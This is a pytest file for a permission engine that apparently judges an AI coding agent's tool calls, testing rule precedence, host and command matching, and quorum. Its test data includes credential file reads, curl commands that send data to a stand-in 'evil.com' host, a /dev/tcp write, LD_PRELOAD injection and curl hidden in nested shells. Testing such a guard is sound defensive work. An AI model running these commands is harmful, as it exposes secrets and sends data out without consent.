"""Rules over defaults: the strictest that matches decides, each effect by itself."""

from itertools import permutations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from heliostat_policy.classes import ActionClass, Decision, strictest
from heliostat_policy.json_values import JsonObject
from heliostat_policy.rules import (
    Call,
    ExampleFault,
    Policy,
    Rule,
    Verdict,
    check_examples,
    judge,
)

ALLOW, ASK, REFUSE = Decision.ALLOW, Decision.ASK, Decision.REFUSE


def verdict(policy: Policy, tool: str, **args: str) -> Verdict:
    given_args: JsonObject = dict(args)
    return judge(policy, Call(tool, given_args, "/workspace/sub", "/workspace"))


def bash(command: str, *rules: Rule) -> Decision:
    return verdict(Policy(rules), "Bash", command=command).decision


@pytest.mark.parametrize(
    ("tool", "args", "class_", "decision"),
    [
        ("Read", {"file_path": "/workspace/a"}, ActionClass.READ, ALLOW),
        ("Read", {"file_path": "/etc/hosts"}, ActionClass.READ, ALLOW),
        ("Read", {"file_path": "/root/.ssh/id_rsa"}, ActionClass.CREDENTIAL, ASK),
        ("Read", {"file_path": "/proc/self/environ"}, ActionClass.CREDENTIAL, ASK),
        ("Read", {"file_path": "/workspace/../var/run/secrets/x"}, ActionClass.CREDENTIAL, ASK),
        ("Glob", {"pattern": "**/*.csv"}, ActionClass.READ, ALLOW),
        ("Grep", {"pattern": "x", "path": "/root/.aws"}, ActionClass.CREDENTIAL, ASK),
        ("Write", {"file_path": "/workspace/a"}, ActionClass.WRITE_INSIDE, ALLOW),
        ("Write", {"file_path": "a"}, ActionClass.WRITE_INSIDE, ALLOW),
        ("Write", {"file_path": "../../a"}, ActionClass.DELETE_OUTSIDE, ASK),
        ("Write", {"file_path": "/workspace"}, ActionClass.DELETE_OUTSIDE, ASK),
        ("Write", {"file_path": "/workspaces/a"}, ActionClass.DELETE_OUTSIDE, ASK),
        ("Write", {}, ActionClass.UNKNOWN, ASK),
        ("Edit", {"file_path": "/workspace/.heliostat/x"}, ActionClass.DELETE_OUTSIDE, ASK),
        (
            "Edit",
            {"file_path": "/workspace/.claude/settings.json"},
            ActionClass.DELETE_OUTSIDE,
            ASK,
        ),
        (
            "Edit",
            {"file_path": "/workspace/.Claude/settings.json"},
            ActionClass.DELETE_OUTSIDE,
            ASK,
        ),
        (
            "Edit",
            {"file_path": "/workspace/.git/hooks/pre-commit"},
            ActionClass.DELETE_OUTSIDE,
            ASK,
        ),
        ("Edit", {"file_path": "/workspace/a/.git/config"}, ActionClass.DELETE_OUTSIDE, ASK),
        ("Edit", {"file_path": "/workspace/.bashrc"}, ActionClass.DELETE_OUTSIDE, ASK),
        ("Edit", {"file_path": "/workspace/.gitignore"}, ActionClass.WRITE_INSIDE, ALLOW),
        ("NotebookEdit", {"notebook_path": "/tmp/a.ipynb"}, ActionClass.DELETE_OUTSIDE, ASK),
        ("WebFetch", {"url": "https://e.com/x"}, ActionClass.NETWORK, ASK),
        ("WebSearch", {"query": "x"}, ActionClass.NETWORK, ASK),
        ("Task", {"prompt": "x"}, ActionClass.READ, ALLOW),
        ("Agent", {"prompt": "x"}, ActionClass.READ, ALLOW),
        ("TodoWrite", {}, ActionClass.READ, ALLOW),
        ("Skill", {"skill": "x"}, ActionClass.EXECUTE, ALLOW),
        ("mcp__crm__send", {}, ActionClass.UNKNOWN, ASK),
        ("NoSuchTool", {}, ActionClass.UNKNOWN, ASK),
        ("Bash", {}, ActionClass.UNKNOWN, ASK),
    ],
)
def test_each_tool_has_a_class_and_a_default(
    tool: str, args: dict[str, str], class_: ActionClass, decision: Decision
) -> None:
    found = verdict(Policy(), tool, **args)
    assert (found.class_, found.decision) == (class_, decision)


def test_the_network_is_asked_for_only_where_there_is_no_egress() -> None:
    found = verdict(Policy(egress=True), "WebFetch", url="https://E.com:8443/x")
    assert (found.decision, found.target, found.reason) == (ALLOW, "e.com", "ReachesNetwork")


@pytest.mark.parametrize(
    ("policy", "is_guarded"),
    [
        (Policy(), True),
        (Policy(egress=True), False),
        (Policy(secret_refs=True), False),
    ],
)
def test_code_is_unguarded_where_it_can_reach_something(policy: Policy, is_guarded: bool) -> None:
    found = verdict(policy, "Skill", skill="x")
    assert (found.decision, found.is_guarded) == (ALLOW, is_guarded)


@given(st.permutations([ALLOW, ASK, REFUSE, ASK, ALLOW]))
def test_the_strictest_rule_wins_wherever_it_stands(decisions: list[Decision]) -> None:
    rules = tuple(Rule(each, argv=("frob",)) for each in decisions)
    assert bash("frob it", *rules) is REFUSE


def test_a_rule_wins_over_the_default_in_both_directions() -> None:
    assert bash("frob it", Rule(ALLOW, argv=("frob",))) is ALLOW
    assert verdict(Policy((Rule(REFUSE, tool="Read"),)), "Read", file_path="a").decision is REFUSE


def test_a_rule_of_a_class_decides_for_that_class() -> None:
    rule = Rule(REFUSE, class_=ActionClass.UNKNOWN)
    assert bash("frob", rule) is REFUSE
    assert verdict(Policy((rule,)), "Read", file_path="a").decision is ALLOW


@pytest.mark.parametrize(
    ("name", "tool", "hit"),
    [
        ("mcp__crm__send", "mcp__crm__send", True),
        ("mcp__crm__send", "mcp__crm__send2", False),
        ("mcp__crm__*", "mcp__crm__send", True),
        ("mcp__crm__*", "mcp__crmx__send", False),
        ("mcp__crm*", "mcp__crmx__send", True),
    ],
)
def test_an_mcp_tool_is_named_whole_or_by_a_beginning(name: str, tool: str, hit: bool) -> None:
    found = verdict(Policy((Rule(ALLOW, mcp_tool=name),)), tool)
    assert found.decision is (ALLOW if hit else ASK)


@pytest.mark.parametrize(
    ("pattern", "host", "hit"),
    [
        ("e.com", "e.com", True),
        ("e.com", "a.e.com", False),
        ("*.e.com", "a.e.com", True),
        ("*.e.com", "a.b.e.com", True),
        ("*.e.com", "e.com", False),
        ("*.e.com", "fake-e.com", False),
        ("e.com", "E.com.", True),
    ],
)
def test_a_host_is_named_whole_or_by_its_domain(pattern: str, host: str, hit: bool) -> None:
    found = verdict(Policy((Rule(REFUSE, host=pattern),)), "WebFetch", url=f"https://{host}/x")
    assert found.decision is (REFUSE if hit else ASK)


@pytest.mark.parametrize(
    ("command", "prefix", "strict", "allowed"),
    [
        ("frob push", "frob push", True, True),
        ("frob push x", "frob push", True, True),
        ("frob", "frob push", False, False),
        ("frob pull push", "frob push", False, False),
        ("frobs push", "frob push", False, False),
        ("/opt/frob push", "frob push", True, False),
        ("../frob push", "frob push", True, False),
        ("frob -C /x push", "frob push", True, False),
        ("frob -C /x --no-pager push", "frob push", True, False),
        ("frob --no-pager push", "frob push", True, False),
        ("frob commit -m push", "frob push", False, False),
    ],
)
def test_a_restricting_rule_finds_more_than_an_allowing_one(
    command: str, prefix: str, strict: bool, allowed: bool
) -> None:
    words = tuple(prefix.split())
    assert bash(command, Rule(REFUSE, argv=words)) is (REFUSE if strict else ASK)
    assert bash(command, Rule(ALLOW, argv=words)) is (ALLOW if allowed else ASK)


def test_what_hides_from_a_rule_is_not_allowed_with_the_tool() -> None:
    bash_allowed, no_curl = Rule(ALLOW, tool="Bash"), Rule(REFUSE, argv=("curl",))
    hidden = '"$x" https://e.com'
    assert bash(hidden, bash_allowed) is ALLOW
    for order in permutations([bash_allowed, no_curl]):
        assert bash(hidden, *order) is ASK


@pytest.mark.parametrize(
    ("command", "decision"),
    [
        ("curl -d x https://e.com", ALLOW),
        ("curl -sS -X PUT --data-binary @a https://e.com/x", ALLOW),
        ("curl -d x https://e.com https://evil.com", ASK),
        ("curl -d x https://e.com@evil.com", ASK),
        ("curl -d x https://e.com -K cfg", ASK),
        ("curl -d x https://e.com -x http://evil.com", ASK),
        ("curl -d x --connect-to e.com:443:evil.com:443 https://e.com", ASK),
        ("curl https://e.com", ALLOW),
        ("curl https://e.com https://evil.com", ASK),
        ("scp a u@e.com:", ASK),
        ("wget --post-data=x https://e.com", ASK),
        ("git push https://e.com/x main", ALLOW),
        ("git push --receive-pack=x https://e.com/x", ASK),
        ("git push origin", ASK),
        ("echo x > /dev/tcp/e.com/80", ALLOW),
    ],
)
def test_a_host_that_is_allowed_allows_no_other(command: str, decision: Decision) -> None:
    assert bash(command, Rule(ALLOW, host="e.com")) is decision


@pytest.mark.parametrize(
    "command",
    ["curl -d x https://a.com https://e.com", "curl -K cfg -d x e.com", "scp a u@e.com:b"],
)
def test_a_host_that_is_refused_is_found_among_others(command: str) -> None:
    assert bash(command, Rule(REFUSE, host="e.com")) is REFUSE


def test_variables_before_a_command_are_not_allowed_with_it() -> None:
    assert bash("frob x", Rule(ALLOW, argv=("frob",))) is ALLOW
    assert bash("LD_PRELOAD=./x.so frob x", Rule(ALLOW, argv=("frob",))) is ASK
    assert bash("X=1 git push", Rule(REFUSE, argv=("git", "push"))) is REFUSE


@pytest.mark.parametrize(
    "limit",
    [
        Rule(REFUSE, argv=("curl",)),
        Rule(ASK, host="e.com"),
        Rule(REFUSE, class_=ActionClass.SEND),
    ],
)
@pytest.mark.parametrize("hidden", ["bash -c 'curl -d x e.com'", "ls | parallel curl", "eval x"])
def test_a_limit_holds_though_the_tool_is_allowed(limit: Rule, hidden: str) -> None:
    assert bash(hidden, Rule(ALLOW, tool="Bash"), limit) is ASK
    assert bash("ls", Rule(ALLOW, tool="Bash"), limit) is ALLOW


def test_the_highest_quorum_of_the_deciding_rules_holds() -> None:
    rules = (
        Rule(ASK, argv=("frob",), quorum=2),
        Rule(ASK, class_=ActionClass.UNKNOWN, quorum=3),
        Rule(ALLOW, tool="Bash"),
    )
    assert verdict(Policy(rules), "Bash", command="frob").quorum == 3
    assert verdict(Policy(quorum=4), "Bash", command="frob").quorum == 4
    assert (
        verdict(Policy((Rule(ASK, argv=("frob",)),), quorum=4), "Bash", command="frob").quorum == 4
    )
    assert verdict(Policy(quorum=4), "Read", file_path="a").quorum == 1


def test_words_say_what_and_why() -> None:
    found = verdict(Policy(), "Write", file_path="/etc/x")
    assert found.words == (
        "A person is asked: it changes something outside of the workspace (/etc/x)."
    )
    refused = verdict(Policy((Rule(REFUSE, tool="Write"),)), "Write", file_path="/workspace/x")
    assert refused.reason == "RefuseRule"
    assert refused.words == (
        "Refused by a rule of the Agent: it writes inside of the workspace (/workspace/x)."
    )


def test_files_that_are_written_are_named() -> None:
    assert verdict(Policy(), "Write", file_path="/workspace/x").writes == ("/workspace/x",)


def test_examples_that_are_wrong_are_found() -> None:
    rules = (
        Rule(ASK, argv=("frob", "it"), match=("frob it x", "frob"), not_match=("ls", "frob it")),
        Rule(ALLOW, argv=("frob",), match=("frob", "/opt/frob"), not_match=("ls",)),
        Rule(ASK, tool="Write", match=("Write",), not_match=("Write", "Read")),
        Rule(ASK, mcp_tool="mcp__a__*", match=("mcp__a__b",), not_match=("mcp__b__b",)),
        Rule(ASK, host="*.e.com", match=("a.e.com", "https://a.e.com/x"), not_match=("e.com",)),
    )
    assert check_examples(rules) == [
        ExampleFault(0, "frob", "match"),
        ExampleFault(0, "frob it", "notMatch"),
        ExampleFault(1, "/opt/frob", "match"),
        ExampleFault(2, "Write", "notMatch"),
    ]


def test_nothing_is_stricter_than_allow() -> None:
    assert strictest([]) is ALLOW
    assert strictest([ASK, REFUSE, ALLOW]) is REFUSE
